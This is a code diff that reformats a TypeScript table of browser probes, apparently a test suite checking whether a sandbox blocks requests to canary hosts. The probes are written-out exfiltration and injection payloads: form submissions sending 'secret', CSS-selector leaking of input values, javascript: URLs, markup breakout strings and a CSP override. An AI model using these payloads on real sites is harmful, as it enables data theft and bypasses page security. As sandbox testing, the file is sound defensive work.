@@ -67,7 +67,9 @@ export const PROBES: Record<string, Probe> = {
   'window, opened': `got(window.open($.http))`,
   'window, opened at the top': `got(window.open($.http, '_top'))`,
   'window, opened blank': `const w = open('about:blank'); got(w); w.location = $.http`,
-  'base target': html(({ http }) => `<base target="_top" href="${http}/"><a id="a" href="x">x</a><script>a.click()</script>`),
+  'base target': html(
+    ({ http }) => `<base target="_top" href="${http}/"><a id="a" href="x">x</a><script>a.click()</script>`,
+  ),
   'history, back': `history.back(); history.go(-2)`,
   'javascript at the top': `top.location = 'javascript:alert(1)'`,
 
@@ -84,12 +86,24 @@ export const PROBES: Record<string, Probe> = {
   'itself, javascript address': `location = 'javascript:fetch("' + $.http + '")'`,
   'itself, blank, and then': `location = 'about:blank'; setTimeout(() => { new Image().src = $.http }, 50)`,
   'itself, again': `if (!performance.getEntriesByType('navigation').some((n) => n.type === 'reload')) location.reload(); else fetch($.http)`,
-  'form, get': html(({ http }) => `<form id="f" action="${http}"><input name="a" value="secret"></form><script>f.submit()</script>`),
-  'form, post': html(({ https }) => `<form id="f" method="post" action="${https}"><input name="a" value="secret"></form><script>f.requestSubmit()</script>`),
-  'form, to the top': html(({ http }) => `<form id="f" target="_top" action="${http}"></form><script>f.submit()</script>`),
+  'form, get': html(
+    ({ http }) => `<form id="f" action="${http}"><input name="a" value="secret"></form><script>f.submit()</script>`,
+  ),
+  'form, post': html(
+    ({ https }) =>
+      `<form id="f" method="post" action="${https}"><input name="a" value="secret"></form><script>f.requestSubmit()</script>`,
+  ),
+  'form, to the top': html(
+    ({ http }) => `<form id="f" target="_top" action="${http}"></form><script>f.submit()</script>`,
+  ),
   'written anew': `document.open(); document.write('<img src="' + $.http + '/w"><script src="' + $.http + '/s"><' + '/script>'); document.close()`,
-  'without our head': html(({ http }) => `</head></html><!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${http}/"></head><body><img src="${http}/i"><img src="relative">`),
-  'out of the frame': html(({ http }) => `"></iframe><img src="${http}/o"></textarea></script></style></title><img src="${http}/p"><!--`),
+  'without our head': html(
+    ({ http }) =>
+      `</head></html><!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${http}/"></head><body><img src="${http}/i"><img src="relative">`,
+  ),
+  'out of the frame': html(
+    ({ http }) => `"></iframe><img src="${http}/o"></textarea></script></style></title><img src="${http}/p"><!--`,
+  ),
 
   // Calls.
   fetch: `fetch($.http, { mode: 'no-cors' }); fetch($.https, { mode: 'no-cors', method: 'POST', body: 'secret' })`,
@@ -110,33 +124,87 @@ export const PROBES: Record<string, Probe> = {
   ),
   'webrtc of a blank frame': `const f = document.createElement('iframe'); document.body.append(f); const RTCPeerConnection = f.contentWindow.RTCPeerConnection; ${RTC(STUN)}`,
   'fetch of a blank frame': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch($.http, { mode: 'no-cors' })`,
-  'link of a nested frame': html(({ http }) => `<iframe srcdoc="<a id=a target=_top href='${http}'>x</a><script>a.click(); location = '${http}'</script>"></iframe>`),
+  'link of a nested frame': html(
+    ({ http }) =>
+      `<iframe srcdoc="<a id=a target=_top href='${http}'>x</a><script>a.click(); location = '${http}'</script>"></iframe>`,
+  ),
 
   // What documents load.
   image: `new Image().src = $.http; const i = new Image(); i.srcset = $.https + ' 2x'; i.src = 'x'`,
-  picture: html(({ http }) => `<picture><source srcset="${http}/a"><img src="${http}/b" loading="eager"></picture><img src="${http}/c" crossorigin>`),
-  'style, background': html(({ http }) => `<style>body { background: url(${http}/bg); cursor: url(${http}/cu), auto; list-style: url("${http}/li"); border-image: url(${http}/bi) }</style><p style="background-image: image-set('${http}/is' 1x)">x</p>`),
+  picture: html(
+    ({ http }) =>
+      `<picture><source srcset="${http}/a"><img src="${http}/b" loading="eager"></picture><img src="${http}/c" crossorigin>`,
+  ),
+  'style, background': html(
+    ({ http }) =>
+      `<style>body { background: url(${http}/bg); cursor: url(${http}/cu), auto; list-style: url("${http}/li"); border-image: url(${http}/bi) }</style><p style="background-image: image-set('${http}/is' 1x)">x</p>`,
+  ),
   'style, imported': html(({ http }) => `<style>@import url("${http}/import"); @import "${http}/i2" layer(x);</style>`),
-  'style, fonts': html(({ http }) => `<style>@font-face { font-family: f; src: url(${http}/font) } body { font-family: f }</style>text`),
+  'style, fonts': html(
+    ({ http }) => `<style>@font-face { font-family: f; src: url(${http}/font) } body { font-family: f }</style>text`,
+  ),
   'font face': `new FontFace('f', 'url(' + $.http + ')').load()`,
-  'style, by selector': html(({ http }) => `<input value="secret"><style>input[value^="s"] { background: url(${http}/s) }</style>`),
-  svg: html(({ http }) => `<svg><image href="${http}/i"/><use href="${http}/u#x"/><filter id="f"><feImage href="${http}/fe"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${http}/p#p)"/><a href="${http}"><text>x</text></a></svg>`),
-  'svg as an image': html(({ http }) => `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}/i"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${http}/j"/></foreignObject></svg>`)}">`),
-  media: html(({ http }) => `<video src="${http}/v" poster="${http}/p" autoplay></video><audio src="${http}/a" autoplay></audio><video><source src="${http}/s"><track default src="${http}/t"></video>`),
-  'object and embed': html(({ http }) => `<object data="${http}/o"></object><embed src="${http}/e"><object data="data:text/html,<script>fetch('${http}')</script>"></object>`),
-  frames: html(({ http }) => `<iframe src="${http}/f"></iframe><iframe src="data:text/html,<script>fetch('${http}')</script>"></iframe><frameset><frame src="${http}/g"></frameset>`),
-  'fenced frame and portal': html(({ https }) => `<fencedframe src="${https}/f"></fencedframe><portal src="${https}/p"></portal>`),
-  script: html(({ http }) => `<script src="${http}/s"></script><script type="module" src="${http}/m"></script><script>import('${http}/i').catch(() => {})</script>`),
-  'import map': html(({ http }) => `<script type="importmap">{"imports": {"x": "${http}/x"}}</script><script type="module">import 'x'</script>`),
-  'link, style': html(({ http }) => `<link rel="stylesheet" href="${http}/s"><link rel="icon" href="${http}/i"><link rel="manifest" href="${http}/m"><link rel="apple-touch-icon" href="${http}/a">`),
-  'link, ahead of time': html(({ http, https }) => `<link rel="prefetch" href="${http}/p"><link rel="preload" as="image" href="${http}/l"><link rel="modulepreload" href="${http}/m"><link rel="prerender" href="${https}/r"><link rel="preload" as="fetch" href="${https}/f">`),
-  'link, connections': html(({ http, https }) => `<link rel="preconnect" href="${http}"><link rel="preconnect" href="${https}" crossorigin><link rel="dns-prefetch" href="${http}">`),
+  'style, by selector': html(
+    ({ http }) => `<input value="secret"><style>input[value^="s"] { background: url(${http}/s) }</style>`,
+  ),
+  svg: html(
+    ({ http }) =>
+      `<svg><image href="${http}/i"/><use href="${http}/u#x"/><filter id="f"><feImage href="${http}/fe"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${http}/p#p)"/><a href="${http}"><text>x</text></a></svg>`,
+  ),
+  'svg as an image': html(
+    ({ http }) =>
+      `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}/i"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${http}/j"/></foreignObject></svg>`)}">`,
+  ),
+  media: html(
+    ({ http }) =>
+      `<video src="${http}/v" poster="${http}/p" autoplay></video><audio src="${http}/a" autoplay></audio><video><source src="${http}/s"><track default src="${http}/t"></video>`,
+  ),
+  'object and embed': html(
+    ({ http }) =>
+      `<object data="${http}/o"></object><embed src="${http}/e"><object data="data:text/html,<script>fetch('${http}')</script>"></object>`,
+  ),
+  frames: html(
+    ({ http }) =>
+      `<iframe src="${http}/f"></iframe><iframe src="data:text/html,<script>fetch('${http}')</script>"></iframe><frameset><frame src="${http}/g"></frameset>`,
+  ),
+  'fenced frame and portal': html(
+    ({ https }) => `<fencedframe src="${https}/f"></fencedframe><portal src="${https}/p"></portal>`,
+  ),
+  script: html(
+    ({ http }) =>
+      `<script src="${http}/s"></script><script type="module" src="${http}/m"></script><script>import('${http}/i').catch(() => {})</script>`,
+  ),
+  'import map': html(
+    ({ http }) =>
+      `<script type="importmap">{"imports": {"x": "${http}/x"}}</script><script type="module">import 'x'</script>`,
+  ),
+  'link, style': html(
+    ({ http }) =>
+      `<link rel="stylesheet" href="${http}/s"><link rel="icon" href="${http}/i"><link rel="manifest" href="${http}/m"><link rel="apple-touch-icon" href="${http}/a">`,
+  ),
+  'link, ahead of time': html(
+    ({ http, https }) =>
+      `<link rel="prefetch" href="${http}/p"><link rel="preload" as="image" href="${http}/l"><link rel="modulepreload" href="${http}/m"><link rel="prerender" href="${https}/r"><link rel="preload" as="fetch" href="${https}/f">`,
+  ),
+  'link, connections': html(
+    ({ http, https }) =>
+      `<link rel="preconnect" href="${http}"><link rel="preconnect" href="${https}" crossorigin><link rel="dns-prefetch" href="${http}">`,
+  ),
   'link, connections by script': `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender']) for (const href of [$.http, $.https]) { const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.append(l) }`,
   'links in sight': html(({ https }) => `<a href="${https}/seen">x</a><a href="//x.canary.test">y</a>`),
-  'speculation rules': html(({ https }) => `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${https}/s"]}], "prerender": [{"source": "list", "urls": ["${https}/p"]}]}</script>`),
+  'speculation rules': html(
+    ({ https }) =>
+      `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${https}/s"]}], "prerender": [{"source": "list", "urls": ["${https}/p"]}]}</script>`,
+  ),
   'ping of a link': html(({ http }) => `<a id="a" href="#" ping="${http}/ping">x</a><script>a.click()</script>`),
-  'attribution source': html(({ https }) => `<img attributionsrc="${https}/a"><a id="a" attributionsrc="${https}/b" href="#">x</a><script>a.click()</script>`),
-  'policy reports': html(({ http }) => `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${http}/r"><img src="x:y">`),
+  'attribution source': html(
+    ({ https }) =>
+      `<img attributionsrc="${https}/a"><a id="a" attributionsrc="${https}/b" href="#">x</a><script>a.click()</script>`,
+  ),
+  'policy reports': html(
+    ({ http }) =>
+      `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${http}/r"><img src="x:y">`,
+  ),
   worker: `new Worker($.http).onerror = () => {}`,
   'worker of a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("' + $.http + '")']))).onerror = () => {}`,
   'worker of a data address': `new Worker('data:text/javascript,fetch("' + $.http + '")').onerror = () => {}`,
